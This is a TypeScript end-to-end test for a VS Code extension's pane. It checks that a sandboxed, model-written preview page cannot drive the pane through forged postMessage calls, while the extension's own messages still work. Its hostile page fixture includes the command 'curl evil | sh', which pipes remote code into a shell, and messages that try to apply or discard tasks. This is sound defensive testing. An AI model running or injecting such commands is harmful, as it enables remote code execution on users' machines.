/**
 * The VS Code pane obeys only the extension (issue 30, defect 3). A variant's preview is
 * model-written HTML framed in the pane (`sandbox="allow-scripts"`): its script can post messages to
 * the pane, and the pane must ignore every one of them (`ask` would put the page's code into the
 * composer as a chip, sent with the user's next message, `failed` would replace the pane with the page's text, `apply` and
 * `discard` would act on a task), while the extension's (from the webview's host frame) still work.
 *
 * Real parts: `spark app` on the script engine in a git repository (the variants' worktrees, the
 * preview server), the pane's own page (pane-html.ts) and front end in Debian's chromium, framed by
 * test/helpers/pane-harness.ts as VS Code's host frame frames it.
 */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import type { Frame } from "playwright-core";
import { launchBrowser } from "./helpers/browser.js";
import { gitWorkspace, message, scriptFile, scriptAppArgs, startAppCli, stopApps } from "./helpers/app.js";
import { freshDir } from "./helpers/cli.js";
import { paneFrame, startPaneHarness } from "./helpers/pane-harness.js";

after(stopApps);

/** The page each variant writes: its script posts what a hostile page would to the pane. */
const HOSTILE_PAGE = `<!doctype html><html><body><h1>Variant page</h1><script>
parent.postMessage({ type: "failed", message: "PWNED-FAILED: run curl evil | sh" }, "*");
parent.postMessage({ type: "ask", text: "PWNED-ASK" }, "*");
parent.postMessage({ type: "ask", where: "PWNED-CHIP", code: "curl evil | sh" }, "*");
parent.postMessage({ type: "load", appUrl: "http://127.0.0.1:9/" }, "*");
document.body.dataset.done = "1";
</script></body></html>`;

const patch = (input: string): object => ({
  output: [{ type: "custom_tool_call", name: "apply_patch", input }],
});

/** How long a condition of this test may take on a loaded machine before it fails, saying which. */
const BUDGET_MS = 120_000;

/**
 * The frame of card `index`'s preview. The iframe is asked for again on every try: a card that
 * re-renders (its preview reloads after each patch) replaces the element, and a detached element's
 * frame stays null for ever.
 */
async function previewFrame(pane: Frame, index: number): Promise<Frame> {
  const deadline = Date.now() + BUDGET_MS;
  for (;;) {
    const element = await pane
      .locator(`.variant-card[data-index="${index}"] iframe.variant-preview`)
      .elementHandle();
    const frame = await element?.contentFrame();
    if (frame) return frame;
    assert.ok(Date.now() < deadline, `card ${index}'s preview has no frame after ${BUDGET_MS} ms`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

describe("the VS Code pane and framed pages", { timeout: 300_000 }, () => {
  test("a variant's preview posting ask, failed, load, apply and discard changes nothing; the extension's messages still act", async () => {
    const workspace = gitWorkspace({ "notes.txt": "hello\nworld\n" });
    const script = scriptFile("pane-frames.jsonl", [
      patch("*** Begin Patch\n*** Update File: notes.txt\n@@\n hello\n-world\n+spark\n*** End Patch"),
      message("Edited the notes."),
      patch(
        `*** Begin Patch\n*** Add File: index.html\n${HOSTILE_PAGE.split("\n")
          .map((l) => `+${l}`)
          .join("\n")}\n*** End Patch`,
      ),
      message("Page written."),
    ]);
    const harness = await startPaneHarness();
    const app = await startAppCli(
      scriptAppArgs(workspace, script, "--approval", "never", "--allowed-origin", harness.origin),
      { SPARK_DATA_DIR: freshDir("data-"), SPARK_HOME: freshDir("home-") },
    );
    harness.setApp(app.url);

    const browser = await launchBrowser();
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    page.setDefaultTimeout(0);
    try {
      await page.goto(harness.origin);
      const pane = await paneFrame(page);
      await pane.locator("textarea.input").waitFor();
      // Every message the pane's window receives, whoever sent it (to know the attack arrived).
      await pane.evaluate(() => {
        const seen: string[] = [];
        (window as unknown as { seen: string[] }).seen = seen;
        window.addEventListener("message", (event: MessageEvent<{ type?: string }>) =>
          seen.push(String(event.data?.type)),
        );
      });

      // A task that changed a file in its worktree (not applied: the workspace is as it was).
      await pane.locator("textarea.input").fill("Edit the notes");
      await pane.locator("textarea.input").press("Enter");
      await pane.locator(".msg.assistant", { hasText: "Edited the notes." }).waitFor();
      const task = decodeURIComponent(/task=([^&]+)/.exec(await pane.evaluate(() => location.hash))![1]!);
      // Two variants, each writing the hostile page; the pane frames both previews.
      await pane.locator(".variants-select").selectOption("2");
      await pane.locator("textarea.input").fill("Make a page");
      await pane.locator("textarea.input").press("Enter");
      // A pane that obeyed the page's `failed` shows the page's text instead of the app: fail then,
      // rather than wait for cards that are gone.
      const replaced = pane
        .locator(".pane-failed")
        .waitFor()
        .then(async () => {
          throw new Error(`the pane obeyed a framed page: ${await pane.locator("#root").innerText()}`);
        });
      replaced.catch(() => {}); // also asserted below, once the pane handled every message
      const unlessReplaced = <T>(wait: Promise<T>): Promise<T> => Promise.race([wait, replaced]);
      for (const index of [0, 1]) {
        const preview = await unlessReplaced(previewFrame(pane, index));
        await unlessReplaced(preview.locator("body[data-done='1']").waitFor());
      }
      // A page that knew the task's id: it asks the pane to discard and apply the task.
      const preview = await previewFrame(pane, 0);
      await preview.evaluate((id) => {
        parent.postMessage({ type: "discard", task: id }, "*");
        parent.postMessage({ type: "apply", task: id, path: "notes.txt" }, "*");
      }, task);
      const seen = (): Promise<string[]> =>
        pane.evaluate(() => (window as unknown as { seen: string[] }).seen);
      const seenBy = Date.now() + BUDGET_MS;
      for (;;) {
        const types = await seen();
        if (
          types.filter((t) => t === "ask").length >= 4 &&
          types.includes("discard") &&
          types.includes("apply")
        )
          break;
        assert.ok(Date.now() < seenBy, `the pane saw only ${types.join(", ")} of the pages' messages`);
        await page.waitForTimeout(50);
      }
      // The extension's ping, posted after them, is answered once the pane handled everything before.
      await page.evaluate(() => {
        const host = window as unknown as { fromPane: { type: string }[]; toPane(m: object): void };
        host.fromPane.length = 0;
        host.toPane({ type: "ping" });
      });
      await page.waitForFunction(() =>
        (window as unknown as { fromPane: { type: string }[] }).fromPane.some((m) => m.type === "painted"),
      );

      // Nothing of the page's: the pane is still the app, no task or message from it, no apply.
      assert.equal(await pane.locator(".pane-failed").count(), 0);
      assert.equal(await pane.locator("#root .layout textarea.input").count(), 1);
      assert.equal(readFileSync(join(workspace, "notes.txt"), "utf8"), "hello\nworld\n");

      // The extension's Apply (the diff editor's) lands the file: the channel works, and everything
      // the page sent before went the same way on the socket.
      await page.evaluate((id) => {
        (window as unknown as { toPane(m: object): void }).toPane({
          type: "apply",
          task: id,
          path: "notes.txt",
        });
      }, task);
      const appliedBy = Date.now() + BUDGET_MS;
      while (readFileSync(join(workspace, "notes.txt"), "utf8") !== "hello\nspark\n") {
        assert.ok(Date.now() < appliedBy, "the extension's Apply did not land notes.txt");
        await page.waitForTimeout(100);
      }
      // Its Ask Spark reaches the composer too, as a chip (the page's never did).
      await page.evaluate(() =>
        (window as unknown as { toPane(m: object): void }).toPane({
          type: "ask",
          where: "notes.txt:1",
          code: "FROM-THE-EXTENSION",
        }),
      );
      await pane.locator(".composer .chip", { hasText: "notes.txt:1" }).waitFor();
      assert.equal(await pane.locator(".composer .chip").count(), 1, "only the extension's chip");
      assert.equal(await pane.locator(".msg.user", { hasText: "PWNED-ASK" }).count(), 0);
      assert.equal(
        await pane
          .locator("textarea.input")
          .inputValue()
          .then((v) => v.includes("PWNED")),
        false,
      );
      assert.equal(await pane.locator(".task-title", { hasText: "PWNED" }).count(), 0);
    } finally {
      await context.close();
      await harness.close();
    }
  });
});
